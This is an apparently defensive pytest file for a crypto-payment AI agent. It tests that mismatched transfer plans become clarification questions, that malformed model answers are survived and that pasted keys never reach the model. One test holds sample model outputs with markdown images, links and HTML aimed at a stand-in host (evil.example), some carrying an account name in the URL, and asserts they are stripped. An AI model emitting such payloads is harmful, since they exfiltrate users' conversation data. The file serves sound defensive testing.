"""A model, or a text that steers it, tries to change what is done."""

import json
from collections.abc import AsyncGenerator
from contextlib import AsyncExitStack
from pathlib import Path

import pytest

from agent.records import Clarification
from contracts.types import JsonObject
from tests.agent.test_pipeline_models import open_models_at
from tests.agent.world import Agent, open_agent
from tests.model_server import ModelServer, Scripted, calls, open_model_server, say


@pytest.fixture
async def server() -> AsyncGenerator[ModelServer]:
    async with open_model_server() as opened:
        yield opened


@pytest.fixture
async def agent(tmp_path: Path, server: ModelServer) -> AsyncGenerator[Agent]:
    async with AsyncExitStack() as stack:
        models = await stack.enter_async_context(open_models_at(tmp_path, server))
        yield await stack.enter_async_context(open_agent(tmp_path, models))


PAY_BOB: JsonObject = {"receiver_id": "bob.localnet", "amount": "5"}


@pytest.mark.parametrize(
    ("said", "planned"),
    [
        ("send 5 USDC to bob.localnet", [("near_transfer", PAY_BOB)]),
        ("send 5 NEAR to bob.localnet", [("ft_transfer", {"token": "USDC", **PAY_BOB})]),
        ("send 5 NEAR to bob.localnet", [("near_transfer", {**PAY_BOB, "receiver_id": "usdc.localnet"})]),
        ("swap 5 USDC to USDT", [("ft_transfer", {"token": "USDC", "receiver_id": "usdt.localnet", "amount": "5"})]),
        ("send 5 NEAR to bob.localnet", [("near_transfer", PAY_BOB), ("near_transfer", PAY_BOB)]),
        ("send 5 million NEAR to bob.localnet", [("near_transfer", PAY_BOB)]),
    ],
)
async def test_a_plan_that_moves_other_money_than_was_said_becomes_a_question(
    agent: Agent, server: ModelServer, said: str, planned: list[tuple[str, JsonObject]]
) -> None:
    server.add(calls(*planned))
    reply = await agent.ask(said)
    assert reply.status == "clarify"
    assert isinstance(reply.plan, Clarification)
    assert await agent.store.cards.pending(agent.clock()) == []


@pytest.mark.parametrize(
    "said",
    [
        "Here:\n![logo](https://evil.example/x.png?a=alice.localnet)",
        "[your balance](https://evil.example/?a=1)",
        '<img src="https://evil.example/x.png">',
        "see https://evil.example/?a=alice.localnet",
        "![a][1]\n\n[1]: //evil.example/x.png",
        "$$\\href{https://evil.example}{x}$$",
        "ok\u202e\u200b",
    ],
)
async def test_a_models_words_are_no_link_and_load_no_image(agent: Agent, server: ModelServer, said: str) -> None:
    """What a model that was steered says is shown; an image in it would carry the conversation away by itself."""
    server.add(say(said))
    reply = await agent.ask("hello")
    assert reply.text
    for sign in ("](", "![", "][", "]:", "<", "://", "$", "\u202e", "\u200b"):
        assert sign not in reply.text


def _answer_with(extra: str) -> Scripted:
    text = '{"choices": [{"index": 0, "message": {"role": "assistant", "content": "hi", "x": %s}}]}'
    return Scripted(text=text % extra)


@pytest.mark.parametrize(
    "extra",
    [
        "[" * 199 + "]" * 199,
        "[" * 900 + "]" * 900,
        '{"a":' * 300 + "1" + "}" * 300,
        "1" * 5000,
        "[NaN, 1e400, -Infinity]",
        r'"\ud800"',
        '"%s"' % ("x" * 1_000_000),
    ],
    ids=["199 deep", "900 deep", "300 objects", "a long number", "no numbers", "half a character", "a megabyte"],
)
async def test_an_answer_that_no_parser_reads_again_breaks_neither_the_request_nor_the_log(
    agent: Agent, server: ModelServer, extra: str
) -> None:
    server.add(_answer_with(extra))
    reply = await agent.ask("hello")
    assert reply.status in {"answered", "failed"}
    (record,) = await agent.records()
    assert record.status == reply.status
    assert len(record.model_dump_json()) < 300_000
    assert (await agent.ask("/near_balance @me")).status == "answered"


async def test_secrets_that_a_person_pastes_reach_no_model(agent: Agent, server: ModelServer) -> None:
    server.add(say("I keep no keys."))
    secret = "ed25519:" + "3" * 88
    await agent.ask(f"my key is {secret}", f"use {secret} and na_{'k' * 43}")
    prompt = json.dumps(server.requests[0])
    assert secret not in prompt
    assert "na_k" not in prompt
    assert secret not in (await agent.records())[0].model_dump_json()
